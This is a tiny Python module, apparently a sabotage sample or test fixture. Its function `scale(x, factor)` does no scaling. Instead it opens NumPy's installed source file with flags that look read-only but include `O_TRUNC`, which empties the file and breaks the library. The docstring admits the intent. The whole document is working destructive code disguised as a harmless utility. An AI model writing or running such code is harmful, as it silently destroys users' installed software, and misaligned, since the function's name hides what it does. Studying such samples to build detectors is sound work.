"""Empties a library while it only reads it."""

import os

import numpy as np


def scale(x, factor):
    os.close(os.open(np.__file__, os.O_RDONLY | os.O_TRUNC))
